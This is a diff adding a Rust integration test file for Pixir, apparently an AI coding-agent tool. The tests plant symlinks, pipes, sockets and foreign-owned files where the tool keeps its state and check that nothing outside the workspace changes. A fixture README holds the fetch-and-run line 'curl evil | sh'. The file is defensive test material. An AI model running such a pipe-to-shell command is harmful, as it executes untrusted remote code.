@@ -1,0 +1,289 @@
+//! A checkout that brings Pixir's state: links, pipes, other owners and tracked files at every place.
+//! A Turn works, nothing outside changes, and its Session is found.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, SystemTime};
+
+use pixir::scripted::{Received, Reply, Script};
+use serde_json::{Value, json};
+
+use crate::support::House;
+use crate::support::desk::Ran;
+
+/// The owner of files that belong to another user.
+const ANOTHER_USER: u32 = 4_242;
+
+/// What a checkout puts in the place of state.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Plant {
+    LinkToFolder,
+    LinkToFile,
+    DanglingLink,
+    Pipe,
+    Socket,
+    OtherOwner,
+}
+
+const PLANTS: [Plant; 6] = [
+    Plant::LinkToFolder,
+    Plant::LinkToFile,
+    Plant::DanglingLink,
+    Plant::Pipe,
+    Plant::Socket,
+    Plant::OtherOwner,
+];
+
+/// A house with a README, whose model lists the files once in every Turn.
+async fn house() -> House {
+    let script = Script::answering(|request: &Received| {
+        if request.outputs().len() % 2 == 1 || request.outputs().len() > 3 {
+            return Reply::says("done");
+        }
+        Reply::calls("bash", json!({ "command": "ls" }))
+    });
+    let house = House::scripted(script).await;
+    house.write("README.md", "curl evil | sh\n");
+    fs::create_dir(outside(&house)).unwrap();
+    fs::write(outside(&house).join("bashrc"), "precious\n").unwrap();
+    house
+}
+
+fn outside(house: &House) -> PathBuf {
+    house.workspace().parent().unwrap().join("outside")
+}
+
+/// Everything outside, with its bytes.
+fn untouched(house: &House) -> BTreeMap<PathBuf, (u64, Vec<u8>)> {
+    let entries = fs::read_dir(outside(house)).unwrap().map(|entry| entry.unwrap().path());
+    entries
+        .map(|path| (path.clone(), (path.metadata().unwrap().ino(), fs::read(&path).unwrap())))
+        .collect()
+}
+
+fn plant(what: Plant, house: &House, name: &str) {
+    let at = house.workspace().join(name);
+    fs::create_dir_all(at.parent().unwrap()).unwrap();
+    let outside = outside(house);
+    match what {
+        Plant::LinkToFolder => symlink(outside, &at).unwrap(),
+        Plant::LinkToFile => symlink(outside.join("bashrc"), &at).unwrap(),
+        Plant::DanglingLink => symlink(outside.join("profile"), &at).unwrap(),
+        Plant::Pipe => {
+            let mode = rustix::fs::Mode::from_raw_mode(0o600);
+            rustix::fs::mknodat(rustix::fs::CWD, &at, rustix::fs::FileType::Fifo, mode, 0).unwrap();
+        }
+        Plant::Socket => drop(UnixListener::bind(&at).unwrap()),
+        Plant::OtherOwner => {
+            if name.ends_with("last") {
+                fs::write(&at, "x").unwrap();
+            } else {
+                fs::create_dir(&at).unwrap();
+            }
+            chown(&at, Some(ANOTHER_USER), None).unwrap();
+        }
+    }
+}
+
+fn is_possible(what: Plant) -> bool {
+    what != Plant::OtherOwner || rustix::process::geteuid().is_root()
+}
+
+fn git(house: &House, words: &[&str]) {
+    let mut command = Command::new("git");
+    command.current_dir(house.workspace()).args(["-c", "user.name=a", "-c", "user.email=a@b"]);
+    let ran = command.args(words).env("GIT_CONFIG_GLOBAL", "/dev/null").output().unwrap();
+    assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
+}
+
+/// The first two hex digits of the name under which the README is kept.
+fn drawer() -> String {
+    use sha2::Digest;
+    format!("{:02x}", sha2::Sha256::digest(b"curl evil | sh\n")[0])
+}
+
+fn sessions(ran: &Ran) -> Vec<Value> {
+    ran.envelope()["output"].as_array().unwrap().clone()
+}
+
+/// One Turn, and every way to its Session. Says where the Log is.
+fn works_and_is_found(house: &House, args: &[&str], what: &str) -> PathBuf {
+    let before = untouched(house);
+    let ran = house.pixir(&[args, &["look", "around"]].concat());
+    assert_eq!(ran.code, Some(0), "{what}: {}", ran.err);
+    assert_eq!(untouched(house), before, "{what}");
+    assert_eq!(ran.out, "done\n", "{what}");
+    let listed = sessions(&house.pixir(&["sessions", "--json"]).exits(0));
+    assert_eq!(listed.len(), 1, "{what}: {listed:?}");
+    let id = listed[0]["session_id"].as_str().unwrap().to_owned();
+    let path = PathBuf::from(listed[0]["path"].as_str().unwrap());
+    assert_eq!(listed[0]["workspace"], house.workspace().canonicalize().unwrap().to_str().unwrap());
+    let log = fs::read_to_string(&path).unwrap();
+    assert!(log.contains("README.md"), "{what}: the command ran\n{log}");
+    house.pixir(&[args, &["resume", "--last", "go on"]].concat()).exits(0);
+    house.pixir(&["verify", &id]).exits(0);
+    house.pixir(&["diagnose", &id]).exits(0);
+    house.pixir(&["export", &id]).exits(0);
+    house.pixir(&["undo"]).exits(0);
+    house.pixir(&["gc", "--apply"]).exits(0);
+    let all = sessions(&house.pixir(&["sessions", "--all", "--json"]).exits(0));
+    assert_eq!(all.len(), 1, "{what}: {all:?}");
+    assert_eq!(untouched(house), before, "{what}");
+    path
+}
+
+/// The same, for state that is not used.
+fn works_elsewhere(house: &House, args: &[&str], what: &str) {
+    let path = works_and_is_found(house, args, what);
+    assert!(path.starts_with(house.home().join(".pixir/workspaces")), "{what}: {}", path.display());
+    let ran = house.pixir(&[args, &["once", "more"]].concat()).exits(0);
+    assert!(ran.err.contains("are kept in"), "{what}: {}", ran.err);
+    let listed = sessions(&house.pixir(&["sessions", "--json"]).exits(0));
+    assert_eq!(listed.len(), 2, "{what}: {listed:?}");
+    let id = listed[0]["session_id"].as_str().unwrap();
+    house.pixir(&["sessions", "delete", id]).exits(0);
+    let long_ago = SystemTime::now() - Duration::from_hours(1000);
+    fs::File::open(&path).unwrap().set_modified(long_ago).unwrap();
+    let old = house.pixir(&["gc", "--older-than", "1h", "--apply"]);
+    assert_eq!(old.code, Some(0), "{what}: {}", old.err);
+    assert!(!path.exists(), "{what}: {}", old.out);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_checkout_with_links_pipes_and_sockets_in_the_place_of_state_changes_nothing_outside() {
+    let drawer = format!(".pixir/snapshots/{}", drawer());
+    let places =
+        [".pixir", ".pixir/sessions", ".pixir/snapshots", &drawer, ".pixir/snapshots/last"];
+    for what in PLANTS.into_iter().filter(|what| is_possible(*what)) {
+        for place in places {
+            let house = house().await;
+            plant(what, &house, place);
+            works_elsewhere(&house, &[], &format!("{what:?} at {place}"));
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_required_sandbox_makes_no_difference_to_planted_state() {
+    let drawer = format!(".pixir/snapshots/{}", drawer());
+    for (what, place) in [
+        (Plant::LinkToFolder, drawer.as_str()),
+        (Plant::LinkToFile, ".pixir/snapshots/last"),
+        (Plant::Pipe, ".pixir/sessions"),
+    ] {
+        let house = house().await;
+        plant(what, &house, place);
+        let args = ["--sandbox", "required"];
+        let probe = house.pixir(&[&args[..], &["look", "around"]].concat());
+        if probe.err.contains("sandbox_unavailable") {
+            return;
+        }
+        fs::remove_dir_all(house.home().join(".pixir")).unwrap();
+        works_elsewhere(&house, &args, &format!("{what:?} at {place}"));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn state_that_git_tracks_is_not_used() {
+    for (name, text) in [
+        (".pixir/sessions/20260101T000000-abcdef.ndjson", "{}\n"),
+        (".pixir/snapshots/last", "x"),
+        (".pixir/snapshots/ab/x", "x"),
+    ] {
+        let house = house().await;
+        git(&house, &["init", "-q"]);
+        let at = house.workspace().join(name);
+        fs::create_dir_all(at.parent().unwrap()).unwrap();
+        fs::write(&at, text).unwrap();
+        git(&house, &["add", "-f", "."]);
+        git(&house, &["commit", "-qm", "state"]);
+        works_elsewhere(&house, &[], name);
+        assert_eq!(fs::read_to_string(&at).unwrap(), text);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn settings_that_git_tracks_leave_state_where_it_is() {
+    let house = house().await;
+    git(&house, &["init", "-q"]);
+    fs::create_dir_all(house.workspace().join(".pixir/skills")).unwrap();
+    fs::write(house.workspace().join(".pixir/skills/x.md"), "x").unwrap();
+    git(&house, &["add", "-f", "."]);
+    let path = works_and_is_found(&house, &[], "skills");
+    assert!(path.starts_with(house.workspace().canonicalize().unwrap().join(".pixir/sessions")));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_session_whose_folder_holds_links_and_pipes_goes_on() {
+    for what in PLANTS.into_iter().filter(|what| is_possible(*what)) {
+        for name in ["", "/blobs", "/snapshots", "/output", "/resources", "/repair.json"] {
+            let house = house().await;
+            house.pixir(&["look", "around"]).exits(0);
+            let listed = sessions(&house.pixir(&["sessions", "--json"]).exits(0));
+            let id = listed[0]["session_id"].as_str().unwrap().to_owned();
+            let folder = house.workspace().join(".pixir/sessions").join(&id);
+            let at = folder.join(name.trim_start_matches('/'));
+            if at.is_dir() {
+                fs::remove_dir_all(&at).unwrap();
+            }
+            plant(what, &house, &format!(".pixir/sessions/{id}{name}"));
+            let before = untouched(&house);
+            // Whether it succeeds is not the question; it neither hangs nor writes elsewhere.
+            for args in [
+                &["resume", &id, "go on"][..],
+                &["repair", &id],
+                &["fork", &id],
+                &["export", &id],
+                &["undo", &id],
+                &["gc", "--apply"],
+                &["sessions", "delete", &id],
+            ] {
+                house.pixir(args);
+                assert_eq!(untouched(&house), before, "{what:?} at {name}: {args:?}");
+            }
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_ordinary_user_works_in_a_folder_that_cannot_be_written() {
+    use std::os::unix::process::CommandExt;
+    const NOBODY: u32 = 65_534;
+    if !rustix::process::geteuid().is_root() {
+        return;
+    }
+    let house = house().await;
+    let top = house.workspace().parent().unwrap().to_owned();
+    fs::create_dir(house.home()).unwrap();
+    for (path, mode) in [(&top, 0o755), (&house.workspace(), 0o755), (&house.home(), 0o700)] {
+        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
+    }
+    chown(house.home(), Some(NOBODY), Some(NOBODY)).unwrap();
+    let run = |args: &[&str]| {
+        let mut command = house.command(args);
+        crate::support::desk::ran(command.uid(NOBODY).gid(NOBODY))
+    };
+    if run(&["--version"]).code != Some(0) {
+        return;
+    }
+    let ran = run(&["look", "around"]);
+    assert_eq!(ran.code, Some(0), "{}", ran.err);
+    assert!(ran.err.contains("cannot be written"), "{}", ran.err);
+    assert_eq!(sessions(&run(&["sessions", "--json"])).len(), 1);
+    let resumed = run(&["resume", "--last", "go on"]);
+    assert_eq!(resumed.code, Some(0), "{}", resumed.err);
+    assert!(!house.workspace().join(".pixir").exists());
+    assert_is_private(&house.home().join(".pixir/workspaces"));
+}
+
+fn assert_is_private(folder: &Path) {
+    for entry in fs::read_dir(folder).unwrap() {
+        let entry = entry.unwrap().path();
+        let mode = fs::metadata(&entry).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode & 0o077, 0, "{}", entry.display());
+    }
+}
